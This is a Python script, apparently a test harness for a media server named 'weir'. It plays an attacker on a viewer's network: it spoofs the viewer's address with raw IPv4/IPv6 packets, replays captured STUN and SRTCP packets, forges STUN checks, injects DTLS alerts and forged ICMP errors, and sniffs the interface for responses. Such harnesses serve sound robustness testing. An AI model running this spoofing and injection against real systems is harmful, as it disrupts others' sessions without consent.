#!/usr/bin/python3
"""Somebody on the viewer's network who has overheard its session, and forges what can be forged.

Reads one JSON object from standard input: `weir` and `viewer` are [address, port], `check` and
`report` a STUN check and an SRTCP packet that the viewer has sent, in hex, `seconds` how long.
Prints what it sent and what came of it: datagrams from weir's port by kind, at any address that
this host's cable carries.
"""

import ipaddress
import json
import os
import select
import socket
import struct
import sys
import time
import zlib

import sniff

ROUND_S = 0.02
TTL = 64
UDP, ICMP, ICMP6 = 17, 1, 58
IPV6_HDRINCL = 36
FINGERPRINT_BYTES = 8
INTEGRITY_BYTES = 24
# Type and code, and the second word of the header, where the MTU stands.
ICMP_ERRORS = [
    (3, 3, 0), (3, 1, 0), (3, 0, 0), (3, 13, 0), (3, 4, 552), (3, 4, 68), (11, 0, 0), (12, 0, 0),
]
ICMP6_ERRORS = [
    (1, 4, 0), (1, 3, 0), (1, 0, 0), (1, 1, 0), (2, 0, 1280), (2, 0, 68), (3, 0, 0), (4, 0, 0),
]


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packed(address):
    return ipaddress.ip_address(address).packed


def pseudo_header(source, to, protocol, length):
    if len(source) == 4:
        return source + to + struct.pack("!BBH", 0, protocol, length)
    return source + to + struct.pack("!IHBB", length, 0, 0, protocol)


def ip_packet(source, to, protocol, payload):
    source, to = packed(source), packed(to)
    if len(source) == 16:
        return struct.pack("!IHBB", 6 << 28, len(payload), protocol, TTL) + source + to + payload
    words = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 7, 0, TTL, protocol, 0)
    sum_of = checksum(words + source + to)
    return words[:10] + struct.pack("!H", sum_of) + source + to + payload


def udp(source, to, data):
    """A UDP datagram from an address that may be another's."""
    length = 8 + len(data)
    header = struct.pack("!HHH", source[1], to[1], length)
    pseudo = pseudo_header(packed(source[0]), packed(to[0]), UDP, length)
    sum_of = checksum(pseudo + header + b"\0\0" + data) or 0xFFFF
    return ip_packet(source[0], to[0], UDP, header + struct.pack("!H", sum_of) + data)


def icmp(source, weir, viewer, error):
    """An error about a datagram that weir is said to have sent to the viewer."""
    kind, code, word = error
    quoted = udp(weir, viewer, b"\x80\x60" + bytes(60))
    protocol = ICMP if ipaddress.ip_address(weir[0]).version == 4 else ICMP6
    body = struct.pack("!BBHI", kind, code, 0, word) + quoted
    pseudo = b""
    if protocol == ICMP6:
        pseudo = pseudo_header(packed(source), packed(weir[0]), ICMP6, len(body))
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    return ip_packet(source, weir[0], protocol, body)


def forged_check(check):
    """The same check in a new transaction, by somebody who knows all but the password."""
    body = check[: -FINGERPRINT_BYTES - INTEGRITY_BYTES]
    body = body[:8] + os.urandom(12) + body[20:]
    body += struct.pack("!HH", 8, 20) + os.urandom(20)
    return body + struct.pack("!HHI", 0x8028, 4, zlib.crc32(body) ^ 0x5354554E)


def alerts():
    """A close as it looks encrypted, one in plain text, and a fatal one."""
    return [
        struct.pack("!BHHHIH", 21, 0xFEFD, 1, 0, 2, 26) + os.urandom(26),
        struct.pack("!BHHHIH", 21, 0xFEFD, 0, 0, 9, 2) + b"\x01\x00",
        struct.pack("!BHHHIH", 21, 0xFEFD, 0, 0, 10, 2) + b"\x02\x28",
    ]


class Attacker:
    def __init__(self, order):
        self.weir, self.viewer = tuple(order["weir"]), tuple(order["viewer"])
        self.check, self.report = bytes.fromhex(order["check"]), bytes.fromhex(order["report"])
        is_v4 = ipaddress.ip_address(self.weir[0]).version == 4
        family = socket.AF_INET if is_v4 else socket.AF_INET6
        self.errors = ICMP_ERRORS if is_v4 else ICMP6_ERRORS
        self.socket = socket.socket(family, socket.SOCK_DGRAM)
        self.socket.connect(self.weir)
        self.own = self.socket.getsockname()[0]
        self.raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
        if is_v4:
            self.raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        else:
            self.raw.setsockopt(socket.IPPROTO_IPV6, IPV6_HDRINCL, 1)
        self.sent = {}
        self.received = {}
        self.tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(sniff.ETH_P_ALL))
        self.tap.bind(("eth0", 0))
        self.tap.setblocking(False)

    def count(self, what):
        self.sent[what] = self.sent.get(what, 0) + 1

    def send_own(self, what, data):
        self.count(what)
        try:
            self.socket.send(data)
        except ConnectionRefusedError:
            pass

    def send_raw(self, what, packet):
        self.count(what)
        self.raw.sendto(packet, (self.weir[0], 0))

    def round(self):
        self.send_own("replayed checks", self.check)
        self.send_own("replayed reports", self.report)
        self.send_own("forged checks", forged_check(self.check))
        for alert in alerts():
            self.send_own("alerts", alert)
            self.send_raw("alerts in the viewer's name", udp(self.viewer, self.weir, alert))
        for what, data in [
            ("replayed reports in the viewer's name", self.report),
            ("forged checks in the viewer's name", forged_check(self.check)),
        ]:
            self.send_raw(what, udp(self.viewer, self.weir, data))
        for error in self.errors:
            for source in (self.own, self.viewer[0]):
                self.send_raw("icmp errors", icmp(source, self.weir, self.viewer, error))

    def listen(self, until):
        while (rest := until - time.monotonic()) > 0:
            if not select.select([self.tap], [], [], rest)[0]:
                return
            frame = self.tap.recv(1 << 17)
            found = sniff.udp_of(frame) if len(frame) > sniff.ETHERNET_BYTES + 28 else None
            if found and struct.unpack_from("!H", found[2])[0] == self.weir[1]:
                if str(found[0]) == self.weir[0]:
                    kind = sniff.kind_of(found[2][8:])
                    self.received[kind] = self.received.get(kind, 0) + 1


def main():
    order = json.loads(sys.stdin.readline())
    attacker = Attacker(order)
    end = time.monotonic() + order["seconds"]
    while (now := time.monotonic()) < end:
        attacker.round()
        attacker.listen(now + ROUND_S)
    print(json.dumps({"sent": attacker.sent, "received": attacker.received}), flush=True)


if __name__ == "__main__":
    main()
